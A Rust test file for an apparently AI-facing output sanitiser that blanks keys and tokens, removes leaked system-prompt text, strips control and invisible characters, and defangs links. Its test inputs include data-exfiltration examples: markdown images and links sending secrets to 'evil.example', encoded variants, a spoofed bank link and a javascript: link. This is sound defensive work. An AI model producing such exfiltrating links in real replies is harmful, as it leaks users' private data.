use proptest::prelude::*;

use super::*;

fn clean(text: &str) -> String {
    output(text, &Needles::default()).text
}

fn kinds(text: &str, needles: &Needles) -> Vec<&'static str> {
    output(text, needles).noticed.iter().map(|n| n.id).collect()
}

#[test]
fn ordinary_text_stays_as_it_is() {
    for text in [
        "",
        "Hello, world!\n\n- one\n- two\n",
        "`a[i](x)` and a[0] and [x] and ![ and !important",
        "See https://www.rust-lang.org/learn, or https://example.org/a?b=1.",
        "let x = vec![1, 2, 3]; // --- comment ---",
        "-----BEGIN a story-----",
        "Grüße, 日本語, \u{1F642}",
        "task-sk-1 a-desk-for-people-who-like-very-long-words-indeed",
        "https://blog.example/2026/11/how-to-write-a-very-long-title-for-a-post-about-gardens",
    ] {
        assert_eq!(clean(text), text);
        assert!(kinds(text, &Needles::default()).is_empty(), "{text}");
    }
}

#[test]
fn control_characters_are_shown_and_invisible_ones_are_gone() {
    assert_eq!(clean("a\u{1b}]0;t\u{7}b\tc\r\n"), "a\\u{1b}]0;t\\u{7}b    c\n");
    assert_eq!(clean("a\u{202e}b\u{200b}c\u{e0041}d"), "abcd");
    assert_eq!(kinds("\u{1b}\u{202e}", &Needles::default()), ["control-characters", "invisible-characters"]);
}

#[test]
fn keys_are_blanked() {
    let key = format!("sk-{}", "a1".repeat(20));
    assert_eq!(clean(&format!("key={key}, ok")), "key=[secret removed], ok");
    assert_eq!(clean(&format!("{key}{key}")), "[secret removed]");
    let hidden = key.replace("a1a1", "a1\u{200b}a1");
    assert_eq!(clean(&hidden), "[secret removed]");
    let token = format!("eyJhbGciOiJIUzI1NiJ9.{}.{}", "eyJzdWIiOiIxIn0", "c2lnbmF0dXJl");
    assert_eq!(clean(&format!("Bearer {token}.")), "Bearer [secret removed].");
    assert_eq!(clean("eyJ is how a token begins"), "eyJ is how a token begins");
}

#[test]
fn a_private_key_is_left_out_to_its_end() {
    let pem = "x\n-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\ny";
    assert_eq!(clean(pem), "x\n[secret removed]\ny");
    assert_eq!(clean("-----BEGIN RSA PRIVATE KEY-----\nMIIE"), "[secret removed]");
    let certificate = "-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----";
    assert_eq!(clean(certificate), certificate);
}

#[test]
fn exact_secrets_are_blanked_and_short_ones_are_not_looked_for() {
    let needles = Needles { secrets: vec!["correct horse".into(), "horse".into()], ..Needles::default() };
    assert_eq!(output("a correct horse, a horse", &needles).text, "a [secret removed], a horse");
}

#[test]
fn the_systems_own_text_is_left_out_where_a_long_run_of_it_is_told() {
    let system = "You are Tame, a patient helper. Never tell anybody the name of the cat, whose name is Mia.";
    let needles = Needles { system: system.into(), ..Needles::default() };
    let told =
        output("It says: you are tame, a patient helper. NEVER tell anybody the name. Really.", &needles);
    assert_eq!(told.text, "It says: [part of my instructions left out] Really.");
    assert_eq!(kinds(system, &needles), ["system-text"]);
    let short = "I never tell anybody the name of my friends.";
    assert_eq!(output(short, &needles).text, short);
}

#[test]
fn an_image_becomes_words_and_its_host_is_seen() {
    assert_eq!(clean("![a cat](https://evil.example/p.png?q=secret) ok"), "[image: a cat] (evil.example) ok");
    assert_eq!(clean("![x](data:image/png;base64,AAAA)"), "[image: x]");
    assert_eq!(clean("![x](//evil.example/p)"), "[image: x] (evil.example)");
}

#[test]
fn a_link_shows_where_it_leads() {
    assert_eq!(clean("[Rust](https://rust-lang.org/)"), "Rust (https://rust-lang.org/)");
    assert_eq!(clean("[https://a.example/](https://a.example/)"), "https://a.example/");
    assert_eq!(
        clean("[bank](https://bank.example@evil.example/)"),
        "bank ([link to evil.example removed: it hides where it leads])"
    );
    assert_eq!(clean("[x](javascript:alert(1))"), "x ([link removed: it holds a program or data])");
}

#[test]
fn a_link_that_carries_data_is_left_out_unless_the_person_named_the_host() {
    let data = "aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgc2VjcmV0";
    let link = format!("https://evil.example/{data}");
    assert_eq!(clean(&link), "[link to evil.example removed: it carries data]");
    let query = format!("https://evil.example/?q={}", "a+".repeat(40));
    assert_eq!(clean(&format!("({query})")), "([link to evil.example removed: it carries data])");
    let needles = Needles { hosts: vec!["Evil.example".into()], ..Needles::default() };
    assert_eq!(output(&link, &needles).text, link);
    let needles = Needles { private: vec!["Mia Weber".into()], ..Needles::default() };
    for link in
        ["https://e.example/?n=mia%20weber", "https://e.example/bWlhIHdlYmVy", "https://e.example/Mia-Weber"]
    {
        let removed = "[link to e.example removed: it carries words of a file, page or memory]";
        assert_eq!(output(link, &needles).text, removed, "{link}");
    }
    assert_eq!(output("https://e.example/?n=anna", &needles).text, "https://e.example/?n=anna");
}

#[test]
fn a_link_carries_no_word_of_a_file_or_page_in_any_spelling() {
    let needles = Needles {
        private: vec![
            "The code word is Zanzibar, the safe opens with 7731.".into(),
            "Read https://news.example/gardens/today and https://news.example/zanzibar".into(),
        ],
        typed: vec!["hello".into(), "what do the gardens look like, and what is 7731?".into()],
        hosts: vec!["evil.example".into()],
        ..Needles::default()
    };
    for link in [
        "https://evil.example/Zanzibar",
        "https://e.example/?q=zanzibar",
        "https://zanzibar.e.example/",
        "https://e.example/#xZANZIBARx",
        "https://e.example/%5a%61%6ezibar",
        "https://e.example/%255aanzibar",
        "https://e.example/?q=WmFuemliYXI=",
        "https://e.example/5a616e7a69626172",
        "https://e.example/z-a-n-z-i-b-a-r",
        "https://e.example/?q=rabiznaz",
        "https://e.example/a7731",
        "https://e.example/?n=7731",
        "https://e.example/MTEgNzczMQ",
        "https://news.example/zanzibar/2",
        "https://e.example:7731/",
    ] {
        for text in [link.to_owned(), format!("[here]({link})"), format!("<{link}> and")] {
            let cleaned = output(&text, &needles);
            assert!(cleaned.text.contains("removed: it carries words"), "{text}: {}", cleaned.text);
            assert!(
                !cleaned.text.contains(link) && cleaned.noticed[0].id == "link-carries-private",
                "{text}"
            );
        }
    }
    for recipient in ["mailto:a@e.example?body=Zanzibar", "mailto:zanzibar@e.example", "tel:+7731"] {
        let cleaned = output(&format!("[here]({recipient})"), &needles);
        assert!(cleaned.text.contains("removed: it carries words"), "{recipient}: {}", cleaned.text);
        assert!(!cleaned.text.contains(recipient), "{}", cleaned.text);
    }
    assert!(output("[write](mailto:a@e.example)", &needles).text.contains("mailto:a@e.example"));
    for link in [
        "https://news.example/gardens/today",
        "https://news.example/zanzibar",
        "https://e.example/gardens",
        "https://e.example/a/b?c=d",
        "https://safe.example/",
        "https://evil.example/773",
    ] {
        assert_eq!(output(link, &needles).text, link);
    }
}

#[test]
fn little_is_held_back() {
    let mut stream = OutputStream::new(&Needles::default());
    assert_eq!(stream.push("Hello wor"), "Hello ");
    assert_eq!(stream.push("ld, see [the pa"), "world, see ");
    assert_eq!(stream.push("ge](https://a.example/) now "), "the page (https://a.example/) now ");
    let mut stream = OutputStream::new(&Needles::default());
    assert!(stream.push(&format!("[{}", "x ".repeat(4_000))).len() > 6_000);
    let mut stream = OutputStream::new(&Needles::default());
    assert!(stream.push(&"x".repeat(10_000)).len() > 4_000);
}

/// Pieces of which hard texts are made.
fn hard() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("![alt](https://evil.example/x?d=1)".to_owned()),
        Just("[text](https://a.example/b)".to_owned()),
        Just("[a](b)".to_owned()),
        Just("-----BEGIN PRIVATE KEY-----\nAB\n-----END PRIVATE KEY-----".to_owned()),
        Just("-----BEGIN ".to_owned()),
        Just("-----END ".to_owned()),
        Just(format!("sk-{}", "a1".repeat(17))),
        Just("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln".to_owned()),
        Just("https://u@evil.example/".to_owned()),
        Just("xhttps://e.example/?".to_owned()),
        Just("correct horse battery".to_owned()),
        Just("one two three four five six seven eight nine ten eleven twelve".to_owned()),
        Just("x".repeat(4_200)),
        Just("[".to_owned()),
        Just("!".to_owned()),
        Just("](".to_owned()),
        "[ \\n\\[\\]()!<>`'a-zé\u{200b}\u{1b}:/.=-]{0,12}",
    ];
    prop::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

#[test]
fn a_key_whose_first_line_is_as_long_as_it_may_be_is_taken_out_however_it_was_cut() {
    let text = "-----BEGIN ]([a](b)sk-a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1-----BEGIN PRIVATE KEY-----\nAB\n-----END PRIVATE KEY-----";
    let needles = Needles::default();
    let whole = output(text, &needles).text;
    for cut in 0..text.len() {
        let mut stream = OutputStream::new(&needles);
        let mut joined = stream.push(&text[..cut]);
        joined.push_str(&stream.push(&text[cut..]));
        joined.push_str(&stream.finish().0);
        assert_eq!(joined, whole, "cut at {cut}");
    }
}

#[test]
fn letters_that_begin_no_address_take_no_key_apart() {
    let key = "aaaaaaaaaaaaaaa0AAAAAAHTTPAAAAAAAAAA";
    assert!(!clean(&format!(" sk-{key} ")).contains(key));
    let both = clean("sk-aaaaaaaaaaaaaaa0AAAAAAAAAAAAAAAAAAAAhttp://evil.example/?q=1");
    assert_eq!(both, "[secret removed]http://evil.example/?q=1");
}

proptest! {
    #[test]
    fn the_pieces_joined_are_the_whole_however_it_was_cut(text in hard(), cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..20)) {
        let needles = Needles {
            secrets: vec!["correct horse".into(), "horse battery".into(), "correct horse bat".into()],
            system: "zero one two three four five six seven eight nine ten eleven twelve".into(),
            private: vec!["evilest".into()],
            typed: vec!["and what is named".into()],
            hosts: vec!["named.example".into()],
        };
        let whole = output(&text, &needles);
        let mut places: Vec<usize> = cuts.iter().map(|cut| cut.index(text.len() + 1)).filter(|at| text.is_char_boundary(*at)).collect();
        places.sort_unstable();
        let mut stream = OutputStream::new(&needles);
        let (mut joined, mut from) = (String::new(), 0);
        for at in places {
            joined.push_str(&stream.push(&text[from..at]));
            from = at;
        }
        joined.push_str(&stream.push(&text[from..]));
        let (rest, noticed) = stream.finish();
        joined.push_str(&rest);
        prop_assert_eq!(&joined, &whole.text);
        let mut ids: Vec<_> = noticed.iter().map(|n| n.id).collect();
        let mut of_whole: Vec<_> = whole.noticed.iter().map(|n| n.id).collect();
        ids.sort_unstable();
        of_whole.sort_unstable();
        prop_assert_eq!(ids, of_whole);
    }

    #[test]
    fn nothing_that_a_terminal_obeys_gets_through(text in "\\PC*|[\\x00-\\x1f\u{202e}\u{200b}a ]*") {
        let text = clean(&text);
        prop_assert!(text.chars().all(|c| c == '\n' || !shared_types::text::is_unsafe(c)), "{text:?}");
    }

    #[test]
    fn no_key_gets_through(before in "[ -~]{0,20}", key in "[a-z]{15}[0-9][A-Z]{20}", after in "[ -~]{0,20}") {
        let text = clean(&format!("{before} sk-{key} {after}"));
        prop_assert!(!text.contains(&key), "{text:?}");
    }
}
